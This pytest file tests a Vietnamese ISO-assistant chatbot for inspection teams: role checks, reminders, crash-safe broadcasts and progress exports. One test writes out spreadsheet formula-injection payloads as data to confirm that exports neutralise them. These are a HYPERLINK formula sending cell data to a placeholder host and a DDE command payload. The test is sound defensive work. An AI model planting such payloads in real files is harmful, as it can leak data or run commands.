"""Inspection team: roles, reminders across restarts, rate-limited broadcasts, progress exports."""

from __future__ import annotations

import asyncio
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot import broadcast
from bot.dialog import User
from bot.storage import Storage

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
ADMIN, INSPECTOR, OFFICIAL = 777, 778, 779


@pytest.fixture
def clock():
    return {"now": datetime(2026, 11, 25, 9, 0, tzinfo=TZ)}


@pytest.fixture
def make_core(lang_son, clock):
    return lambda: lang_son(now=lambda: clock["now"], today=lambda: clock["now"].date())


def test_roles_are_checked_on_the_server_and_audited(make_core):
    core = make_core()
    for uid, name in ((ADMIN, "Admin"), (INSPECTOR, "Thanh tra"), (OFFICIAL, "Cán bộ")):
        core.storage.touch_user(uid, name)
    assert "chỉ dành cho" in core.command(User(OFFICIAL), "nhacviec").text
    forged = core.press(User(OFFICIAL), "rn")
    assert "chỉ dành cho" in forged.text and forged.alert
    assert "chỉ dành cho" in core.command(User(INSPECTOR), "capquyen", str(OFFICIAL)).text
    assert "Đã cấp quyền" in core.command(User(ADMIN), "capquyen", str(INSPECTOR)).text
    assert "Nhắc việc" in core.command(User(INSPECTOR), "nhacviec").text
    assert "Tiến độ" in core.command(User(INSPECTOR), "tiendo").text
    actions = [(e["actor"], e["action"]) for e in core.storage.audit_entries()]
    assert (OFFICIAL, "denied") in actions and (INSPECTOR, "denied") in actions and (ADMIN, "role.grant") in actions
    assert "Đã thu hồi" in core.command(User(ADMIN), "thuquyen", str(INSPECTOR)).text
    assert "chỉ dành cho" in core.press(User(INSPECTOR), "pg:all").text


def test_reminder_wizard_once_weekly_and_bad_input(make_core, clock):
    core = make_core()
    inspector = User(ADMIN, "Admin")
    core.press(inspector, "rn")
    core.text(inspector, "Đề nghị các xã hoàn thành đánh giá nội bộ")
    core.press(inspector, "rt:all")
    core.press(inspector, "rs:once")
    refused = core.text(inspector, "31/2 8h").text
    assert "Không có ngày 31/2" in refused and "Gõ ngày giờ gửi" in refused, "the reason, then the question again"
    assert "đã qua" in core.text(inspector, "01/01/2026 08:00").text
    confirm = core.text(inspector, "15/12 8h30")
    assert "Xác nhận" in confirm.text and "Một lần: 08:30, thứ Ba, 15/12/2026" in confirm.text
    assert "Lần gửi tới: 08:30, thứ Ba, 15/12/2026" in confirm.text
    saved = core.press(inspector, "rk")
    (rem,) = core.storage.reminders()
    assert rem["next_run"].startswith("2026-12-15T08:30") and "#1" in saved.text
    core.press(inspector, "rn")
    core.text(inspector, "Họp giao ban ISO")
    core.press(inspector, "rt:province")
    core.press(inspector, "rs:weekly")
    confirm = core.text(inspector, "thứ 2 08:00")
    assert "Hằng tuần: thứ Hai, 08:00" in confirm.text and "Lần gửi tới: 08:00, thứ Hai, 30/11/2026" in confirm.text
    core.press(inspector, "rk")
    weekly = core.storage.reminders()[-1]
    assert weekly["next_run"].startswith("2026-11-30T08:00")  # the next Monday
    core.press(inspector, f"rp:{weekly['id']}")
    assert core.storage.get_reminder(weekly["id"])["status"] == "paused"
    core.press(inspector, f"ru:{weekly['id']}")
    assert core.storage.get_reminder(weekly["id"])["status"] == "active"


def test_overdue_reminder_is_sent_once_marked_late(make_core, clock):
    core = make_core()
    for uid in (1, 2, 3):
        core.storage.touch_user(uid, f"u{uid}")
    rid = core.storage.save_reminder(
        {
            "created_by": ADMIN,
            "text": "Nộp báo cáo",
            "target": "all",
            "target_arg": "",
            "kind": "weekly",
            "weekday": 0,
            "time": "08:00",
            "status": "active",
            "next_run": datetime(2026, 11, 9, 8, 0, tzinfo=TZ).isoformat(),
        }
    )
    bid, late = core.reminders.fire(rid)  # the bot was down for two weeks
    assert bid and late
    assert "(Nhắc việc gửi muộn do hệ thống tạm ngừng.)\n\n— đoàn kiểm tra" in core.storage.get_broadcast(bid)["text"]
    assert core.storage.get_reminder(rid)["next_run"].startswith("2026-11-30T08:00")
    assert core.reminders.fire(rid) == (None, False), "not due again until next Monday"
    again = core.storage.create_broadcast(rid, "2026-11-09T08:00:00+07:00", ADMIN, "x", [1, 2, 3])
    assert again is None, "the same occurrence can never become a second broadcast"


class SimulatedCrash(Exception):
    """The process dies in the middle of a broadcast."""


class FakeTelegram:
    """A send() that injects flood control and blocked users, and can 'crash' after N messages."""

    def __init__(self, blocked=(), retry_every=0, crash_after=None):
        self.delivered: list[int] = []
        self.blocked = set(blocked)
        self.retry_every = retry_every
        self.crash_after = crash_after
        self.calls = 0

    async def send(self, chat_id: int, text: str) -> None:
        self.calls += 1
        if self.crash_after is not None and len(self.delivered) >= self.crash_after:
            raise SimulatedCrash()
        if self.retry_every and self.calls % self.retry_every == 0:
            raise broadcast.RetryLater(0.01)
        if chat_id in self.blocked:
            raise broadcast.Blocked("Forbidden: bot was blocked by the user")
        self.delivered.append(chat_id)


async def test_broadcast_survives_a_crash_without_duplicates(config):
    storage = Storage(config.database)
    users = list(range(1000, 1060))
    for uid in users:
        storage.touch_user(uid, "x")
    bid = storage.create_broadcast(None, "manual-1", ADMIN, "Nhắc hạn", users)
    first = FakeTelegram(blocked={1005}, retry_every=7, crash_after=25)
    with pytest.raises(SimulatedCrash):
        await broadcast.run(storage, bid, first.send, rate=1000, workers=1)
    second = FakeTelegram(blocked={1005}, retry_every=9)
    report = await broadcast.run(Storage(config.database), bid, second.send, rate=1000, workers=4)
    delivered = first.delivered + second.delivered
    assert len(delivered) == len(set(delivered)), "nobody gets the message twice"
    assert report.blocked == 1 and report.unknown == 1 and report.sent == len(delivered)
    assert report.sent + report.blocked + report.unknown + report.failed == len(users)
    assert storage.get_user(1005)["active"] == 0, "a user who blocked the bot is not sent to again"
    assert 1005 not in storage.recipients("all")


async def test_pacer_keeps_to_the_rate():
    pacer = broadcast.Pacer(rate=200)
    loop = asyncio.get_running_loop()
    t0 = loop.time()
    for _ in range(60):
        await pacer.wait()
    assert loop.time() - t0 >= 59 / 200 * 0.95


def _seed_units(core, kb):
    u1 = core.storage.get_or_create_unit("xã", "Xã Lộc Bình", 20, "Lạng Sơn", 6529)
    u2 = core.storage.get_or_create_unit("phường", "Phường Tam Thanh", 20, "Lạng Sơn", 5986)
    office = core.storage.get_or_create_unit("co-quan", "Sở Khoa học và Công nghệ", 20, "Lạng Sơn")
    for uid, unit in ((11, u1), (12, u1), (13, u2), (ADMIN, office)):
        core.storage.touch_user(uid, f"u{uid}")
        core.storage.set_user_unit(uid, unit, confirmed=True)
    cl = kb.checklists["san-sang-dgnb"]
    run = core.storage.start_run(11, u1, cl.id)
    for i in range(len(cl.items)):
        core.press(User(11), f"ca:{run['id']}:{i}:{'c' if i < 3 else 'd'}")
    return u1, u2


def _overdue_task(core, unit_id: int, what: str) -> None:
    """A task of the unit from an audit, due 2026-11-20 (overdue on the tests' clock)."""
    core.storage.create_task(
        {
            "unit_id": unit_id,
            "created_by": 11,
            "owner_id": 12,
            "source": "audit",
            "finding": "x",
            "what": what,
            "due": "2026-11-20",
        }
    )


def test_progress_lists_every_commune_of_the_province_laggards_first(make_core, kb):
    core = make_core()
    u1, _ = _seed_units(core, kb)
    _overdue_task(core, u1, "Cập nhật quy trình chứng thực")
    text = core.press(User(ADMIN), "pg:all").text
    assert "Tiến độ Lạng Sơn: 65 xã, phường, 0 cơ quan" in text
    assert "Chưa đăng ký: 63 · chưa tự đánh giá: 1 · điểm dưới 50: 0 · có việc quá hạn: 1" in text
    assert "chưa ai đăng ký" in text and "Sở Khoa học" not in text  # the office is not a commune
    not_started = core.press(User(ADMIN), "pg:not-started").text
    assert "Phường Tam Thanh: 1 người, chưa tự đánh giá" in not_started and "Xã Lộc Bình" not in not_started
    overdue = core.press(User(ADMIN), "pg:overdue").text
    assert "Xã Lộc Bình: 2 người · điểm" in overdue and "việc: 1 mở, 1 quá hạn" in overdue
    pages = [b.data for row in core.press(User(ADMIN), "pg:all").buttons for b in row if b.data.startswith("pn:")]
    assert pages == ["pn:all:1"]
    last = core.press(User(ADMIN), "pn:all:8").text  # 65 rows, 8 a page: page 9
    assert "Xã Lộc Bình" in last and "Phường Tam Thanh" in core.press(User(ADMIN), "pn:all:7").text
    xlsx = core.press(User(ADMIN), "px:all").attachment
    ws = load_workbook(io.BytesIO(xlsx.data)).active
    header = [c.value for c in ws[1]]
    assert header[:5] == ["Đơn vị", "Tỉnh, thành phố", "Tình trạng", "Thành viên đã xác nhận", "Chờ xác nhận"]
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 65 and rows["Xã Lộc Bình"]["Tình trạng"] == "Đã tự đánh giá"
    lb = rows["Xã Lộc Bình"]
    assert (lb["Thành viên đã xác nhận"], lb["Bảng kiểm đã xong"], lb["Nội dung chưa đạt"], lb["Việc quá hạn"]) == (
        2,
        1,
        3,
        1,
    )
    assert rows["Xã Bình Gia"]["Tình trạng"] == "Chưa đăng ký"
    csv = core.press(User(ADMIN), "pv:below").attachment.data.decode("utf-8-sig")
    assert csv.splitlines()[0].startswith("Đơn vị,")
    chart = core.press(User(ADMIN), "pc:all").attachment
    assert chart.kind == "photo" and chart.data[:4] == b"\x89PNG"


def test_progress_first_screen_counts_units_and_reaches_the_active_ones_in_one_step(make_core, kb):
    """Play-test: the units that did something recently were 8 taps away, after 63 never registered."""
    core = make_core()
    u1, u2 = _seed_units(core, kb)
    core.storage.touch_user(14, "u14")
    core.storage.set_user_unit(14, core.storage.get_or_create_unit("xã", "Xã Văn Quan", 20, "Lạng Sơn", 6253), True)
    core.storage.db.execute("UPDATE users SET last_seen = ? WHERE id = 14", ["2026-09-01T08:00:00+00:00"])
    _overdue_task(core, u1, "Y")
    first = core.command(User(ADMIN), "tiendo")
    assert "Tiến độ Lạng Sơn: 65 xã, phường, 0 cơ quan" in first.text
    assert "Đang hoạt động (30 ngày qua): 2 · 🔕 im lặng: 1 · chưa đăng ký: 62 · ⏰ có việc quá hạn: 1" in first.text
    attention = first.text.split("Cần chú ý (3):")[1]
    assert attention.index("Xã Lộc Bình") < attention.index("Xã Văn Quan") < attention.index("Phường Tam Thanh")
    assert "3 điểm chưa đạt · việc: 1 mở, 1 quá hạn" in attention
    assert "chưa ai đăng ký" not in first.text and len(first.text) < 900
    labels = {b.label: b.data for row in first.buttons for b in row}
    assert len(labels) <= 10 and "🔕 Im lặng (1)" in labels and "⏰ Có việc quá hạn (1)" in labels
    active = core.press(User(ADMIN), labels["🟢 Đang hoạt động (2)"]).text  # one step
    assert "Xã Lộc Bình" in active and "Phường Tam Thanh" in active and "Xã Văn Quan" not in active
    assert "chưa ai đăng ký" not in active
    silent = core.press(User(ADMIN), labels["🔕 Im lặng (1)"]).text
    assert "Xã Văn Quan" in silent and "Xã Lộc Bình" not in silent
    assert (
        "🔎 Xã Lộc Bình" in labels
        and "Xã Lộc Bình (Lạng Sơn)" in core.press(User(ADMIN), labels["🔎 Xã Lộc Bình"]).text
    )
    everything = core.press(User(ADMIN), labels["📋 Tất cả đơn vị"])
    back = {b.label: b.data for row in everything.buttons for b in row}["⬅️ Tóm tắt"]
    assert core.press(User(ADMIN), back).text == first.text


def test_progress_lists_on_zalo_keep_filters_and_files_one_step_away(kb, searcher, config):
    """Zalo: a list screen numbered 20 options (8 units, pages, 8 filters, 3 files); now at most 14."""
    from bot.dialog import Core
    from bot.textui import TextUI

    core = Core(kb, searcher, Storage(config.database), province="Lạng Sơn", admin_ids={"zalo:adm1n", ADMIN})
    ui = TextUI(core, "zalo", publish=lambda a: None)
    boss = core.identify("zalo", "adm1n", "Minh")
    _seed_units(core, kb)

    def options(text: str) -> dict[str, str]:
        return dict(re.findall(r"^(\d{1,2})\. (.+)$", text, re.M))

    ui.handle(boss, "/tiendo")
    (listing,) = ui.handle(
        boss, next(k for k, v in options(ui.handle(boss, "/tiendo")[0].text).items() if "Tất cả" in v)
    )
    opts = options(listing.text)
    assert len(opts) <= 14 and "🔎 Lọc khác" in opts.values() and "📥 Tải về, biểu đồ" in opts.values()
    (menu,) = ui.handle(boss, next(k for k, v in opts.items() if v == "🔎 Lọc khác"))
    labels = list(options(menu.text).values())
    assert "chưa đăng ký (63)" in labels and "đang hoạt động (2)" in labels and "cơ quan (0)" in labels
    (not_started,) = ui.handle(boss, next(k for k, v in options(menu.text).items() if v.startswith("chưa tự đánh giá")))
    assert "Phường Tam Thanh: 1 người, chưa tự đánh giá" in not_started.text
    (files,) = ui.handle(boss, next(k for k, v in options(not_started.text).items() if v.startswith("📥")))
    assert {"📊 Biểu đồ", "📥 Excel", "📥 CSV"} <= set(options(files.text).values())
    telegram = core.press(User(ADMIN), "pg:all")  # Telegram keeps the filters and files as buttons
    assert {"chưa đăng ký", "📥 CSV"} <= {b.label for row in telegram.buttons for b in row}


def test_drill_down_into_a_unit_and_its_readiness_pack(make_core, kb):
    from docx import Document

    core = make_core()
    u1, _ = _seed_units(core, kb)
    cl = kb.checklists["kiem-tra-tinh"]
    run = core.storage.start_run(12, u1, cl.id)
    for i, item in enumerate(cl.items):
        core.press(User(12), f"ca:{run['id']}:{i}:{'c' if item.id == 'dgnb-nam-nay' else 'd'}")
    core.storage.save_answer(run["id"], "quy-trinh-cap-nhat", note="Đã cập nhật 12 quy trình tháng 10")
    tid = core.storage.create_task(
        {
            "unit_id": u1,
            "created_by": 12,
            "owner_id": 11,
            "source": "checklist",
            "run_id": run["id"],
            "checklist_id": cl.id,
            "item_id": "dgnb-nam-nay",
            "finding": "x",
            "what": "Tổ chức ĐGNB năm 2026",
            "due": "2026-12-20",
        }
    )
    screen = core.press(User(ADMIN), "pd:6529")
    assert "🔎 Xã Lộc Bình (Lạng Sơn)" in screen.text and "2 đã xác nhận, 0 chờ xác nhận" in screen.text
    assert "Chuẩn bị cho đoàn kiểm tra của tỉnh: " in screen.text and "lần cuối: u12" in screen.text
    assert f"#{tid} Tổ chức ĐGNB năm 2026 — u11, 20/12/2026" in screen.text
    labels = {b.label: b.data for row in screen.buttons for b in row}
    (answers,) = [d for label, d in labels.items() if label.startswith("📋 Câu trả lời: Chuẩn bị cho đoàn")]
    report = core.press(User(ADMIN), answers)
    assert report.attachment.file_name.endswith(".docx")
    pack = core.press(User(ADMIN), labels["📄 Hồ sơ sẵn sàng đón kiểm tra (.docx)"]).attachment
    doc = Document(io.BytesIO(pack.data))
    text = "\n".join(p.text for p in doc.paragraphs)
    cells = "\n".join(c.text for t in doc.tables for row in t.rows for c in row.cells)
    assert "Đánh giá nội bộ ít nhất một lần mỗi năm" in text and "Điểm b khoản 4 Điều 4" in text
    assert "❌ Chưa đạt" in cells and "Đã cập nhật 12 quy trình tháng 10" in cells
    assert f"Việc #{tid}: Tổ chức ĐGNB năm 2026" in cells
    assert core.press(User(11), labels["📄 Hồ sơ sẵn sàng đón kiểm tra (.docx)"]).attachment is not None  # a member
    assert core.press(User(13), f"pk:{u1}").stale  # another commune
    assert "chỉ dành cho" in core.press(User(11), "pd:6529").text
    from bot import units
    from bot.members import join_code

    other = next(p for p in units.wards().values() if p.province_code == 20 and p.code not in (6529, 5986))
    unregistered = core.press(User(ADMIN), f"pd:{other.code}").text
    code = join_code(core.storage, f"ward:{other.code}")
    assert "Chưa có ai của đơn vị đăng ký" in unregistered and f"{code[:4]} {code[4:]}" in unregistered


def test_weekly_digest_goes_to_inspectors_once_a_week(make_core, kb, clock):
    core = make_core()
    _seed_units(core, kb)
    core.storage.touch_user(INSPECTOR, "Thanh tra")
    core.storage.set_role(INSPECTOR, "inspector")
    (bid,) = core.progress.digest()
    b = core.storage.get_broadcast(bid)
    assert "Chưa đăng ký: 63" in b["text"] and "/tiendo" in b["text"]
    assert sorted(d["user_id"] for d in core.storage.db.query("SELECT user_id FROM deliveries")) == sorted(
        [INSPECTOR, ADMIN]
    )
    assert core.progress.digest() == []


def test_report_command_writes_xlsx(make_core, kb, config_file, tmp_path):
    from bot.cli import main

    core = make_core()
    _seed_units(core, kb)
    out = tmp_path / "tien-do.xlsx"
    assert main(["report", "--out", str(out), "--config", str(config_file)]) == 0
    names = [r[0] for r in load_workbook(out).active.iter_rows(min_row=2, values_only=True)]
    assert names == ["Phường Tam Thanh", "Xã Lộc Bình"]


def test_admin_command_grants_and_logs(config_file, config, capsys):
    from bot.cli import main

    assert main(["admin", "grant", "4242", "--config", str(config_file)]) == 0
    assert main(["admin", "list", "--config", str(config_file)]) == 0
    assert "4242" in capsys.readouterr().out
    assert main(["admin", "log", "--config", str(config_file)]) == 0
    assert "role.grant\t4242" in capsys.readouterr().out


def test_admin_grant_reaches_the_terminal_chat_user(config_file, config, monkeypatch, capsys):
    """/toi in `isobot chat` shows "cli:1"; granting that id gives the terminal user the team's menus."""
    import io

    from bot.cli import main

    assert main(["admin", "grant", "cli:1", "--config", str(config_file)]) == 0
    assert "Đã cấp" in capsys.readouterr().out
    monkeypatch.setattr("sys.stdin", io.StringIO("/tiendo\n"))
    assert main(["chat", "--config", str(config_file)]) == 0
    out = capsys.readouterr().out
    assert "Tiến độ" in out and "chỉ dành cho" not in out
    assert main(["admin", "grant", "cli:", "--config", str(config_file)]) != 0


async def test_restart_reschedules_reminders_and_sends_overdue_once(offline_app, config, clock):
    """Pending and overdue reminders after a restart: overdue fires once (late), pending is scheduled."""
    storage = Storage(config.database)
    for uid in (21, 22):
        storage.touch_user(uid, "u")
    storage.touch_user(ADMIN, "Admin")  # the inspector who made the reminders, reached for the report
    overdue = storage.save_reminder(
        {
            "created_by": ADMIN,
            "text": "Quá hạn",
            "target": "all",
            "target_arg": "",
            "kind": "once",
            "at": "2026-11-24T08:00+07:00",
            "status": "active",
            "next_run": "2026-11-24T08:00:00+07:00",
        }
    )
    pending = storage.save_reminder(
        {
            "created_by": ADMIN,
            "text": "Sắp tới",
            "target": "all",
            "target_arg": "",
            "kind": "once",
            "at": "2026-12-01T08:00+07:00",
            "status": "active",
            "next_run": "2026-12-01T08:00:00+07:00",
        }
    )
    for attempt in range(2):  # two restarts in a row
        app, api, _ = await offline_app(admin_ids={ADMIN}, now=lambda: clock["now"])
        scheduler = app.bot_data["scheduler"]
        await scheduler.restore()
        assert f"reminder:{pending}" in scheduler.jobs()
        assert (f"reminder:{overdue}" in scheduler.jobs()) == (attempt == 0), "once fired, an overdue one-off is done"
        await scheduler._reminder_job(overdue)  # as if its job ran (again, on the second start)
        texts = [p["text"] for m, p in api.calls if m == "sendMessage"]
        to_users = [p["text"] for m, p in api.calls if m == "sendMessage" and int(p["chat_id"]) in (21, 22)]
        if attempt == 0:
            assert len(to_users) == 2 and all("Quá hạn" in t and "gửi muộn" in t for t in to_users)
            assert any("Đã gửi xong" in t and "thành công: 3" in t for t in texts), (
                "the sender (also a user) gets a report"
            )
        else:
            assert to_users == [], "never twice"
        await app.shutdown()


def test_exports_never_carry_live_formulas(make_core, config_file, capsys):
    """A unit name or a question typed as a formula is written as text in .xlsx, .csv and kb unanswered."""
    from bot.cli import main

    core = make_core()
    evil = '=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    unit = core.storage.get_or_create_unit("co-quan", evil, 20, "Lạng Sơn")  # an agency typed by name
    core.storage.touch_user(31, "u")
    core.storage.set_user_unit(31, unit)
    # questions are kept folded ("+SUM(1,2)" → "sum 1 2"), so a curator export can only meet a formula
    # in what is stored verbatim: write one straight into the log to check the export itself
    core.storage.log_question(31, "telegram", "=cmd|' /C calc'!A0", "decline", None, None)
    core.storage.log_question(31, "telegram", "@thoi tiet", "decline", None, None)
    ws = load_workbook(io.BytesIO(core.press(User(ADMIN), "px:all").attachment.data)).active
    cells = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert f"'{evil}" in cells and not any(str(v).startswith(("=", "+", "-", "@")) for v in cells)
    csv = core.press(User(ADMIN), "pv:all").attachment.data.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "\n=HYPERLINK" not in csv and ",=HYPERLINK" not in csv
    assert main(["kb", "unanswered", "--config", str(config_file)]) == 0
    out = capsys.readouterr().out
    assert "'=cmd" in out and "'@thoi" in out and ",=cmd" not in out and ",@thoi" not in out


class SlowTelegram:
    """A send() that takes 0.2 s, counting sends started and finished."""

    def __init__(self):
        self.started: list[int] = []
        self.finished: list[int] = []

    async def send(self, chat_id: int, text: str) -> None:
        self.started.append(chat_id)
        await asyncio.sleep(0.2)
        self.finished.append(chat_id)


async def test_after_a_kill_only_messages_really_on_their_way_are_unknown_and_can_be_resent(config):
    """Claimed just before the request: a broadcast killed while 8 workers wait for rate slots leaves
    'unknown' exactly the deliveries whose request had started; the sender can resend those."""
    storage = Storage(config.database)
    users = list(range(2000, 2060))
    for uid in users:
        storage.touch_user(uid, "x")
    bid = storage.create_broadcast(None, "manual-kill", ADMIN, "Nhắc hạn", users)
    slow = SlowTelegram()
    task = asyncio.create_task(broadcast.run(storage, bid, slow.send, rate=10, workers=8))
    await asyncio.sleep(0.75)
    task.cancel()  # the process dies: nothing settles what was in flight
    await asyncio.gather(task, return_exceptions=True)
    in_flight = set(slow.started) - set(slow.finished)
    restarted = Storage(config.database)
    assert restarted.orphan_in_flight(bid) == len(in_flight) <= 8
    assert len(in_flight) < len(slow.started) + 1 and len(slow.started) < 20, "most recipients were never claimed"
    again = SlowTelegram()
    report = await broadcast.run(restarted, bid, again.send, rate=1000, workers=8)
    assert report.unknown == len(in_flight) and set(again.started).isdisjoint(slow.finished), "nobody twice"
    assert report.sent == len(users) - len(in_flight), "nobody silently left out"
    assert restarted.retry_unknown(bid) == len(in_flight)
    third = SlowTelegram()
    report = await broadcast.run(restarted, bid, third.send, rate=1000)
    assert sorted(third.started) == sorted(in_flight) and report.unknown == 0


def test_granting_names_the_person_and_warns_about_an_account_never_seen(make_core):
    """Telegram report §14 / Zalo §16: /capquyen 999999 granted silently to nobody known, and the
    success message named an id, so the admin could not check they picked the right person."""
    core = make_core()
    core.storage.touch_user(ADMIN, "Admin")
    nam = core.identify("zalo", "8dabda0309808ab010c9", "Hoàng Văn Nam")
    unit = core.storage.get_or_create_unit("xã", "Xã Lộc Bình", 20, "Lạng Sơn", 6529)
    core.storage.set_user_unit(nam.id, unit)
    reply = core.command(User(ADMIN, "Minh"), "capquyen", "8dabda0309808ab010c9").text  # bare, as a Zalo id
    assert "Hoàng Văn Nam (zalo:8dabda0309808ab010c9, Xã Lộc Bình)" in reply
    assert core.ctx.roles.role_of(nam) == "inspector"
    (told,) = [b for b in core.storage.unfinished_broadcasts() if b["occurrence"].startswith(f"role-{nam.id}-")]
    assert "Minh cấp quyền đoàn kiểm tra" in told["text"] and core.storage.pending_deliveries(told["id"]) == [nam.id]
    unknown = core.command(User(ADMIN, "Minh"), "capquyen", "999999").text
    assert "chưa từng nhắn cho Trợ lý ISO" in unknown and "/thuquyen 999999" in unknown
    assert "Hoàng Văn Nam" in core.command(User(ADMIN, "Minh"), "thuquyen", "zalo:8dabda0309808ab010c9").text


def test_the_usage_of_capquyen_on_zalo_shows_a_zalo_id(make_core):
    core = make_core()
    admin = core.identify("zalo", "b30c8ddd378fd3819f90", "Minh")
    core.ctx.roles.admin_keys = frozenset({"zalo:b30c8ddd378fd3819f90"})
    assert "/capquyen zalo:" in core.command(admin, "capquyen", "").text
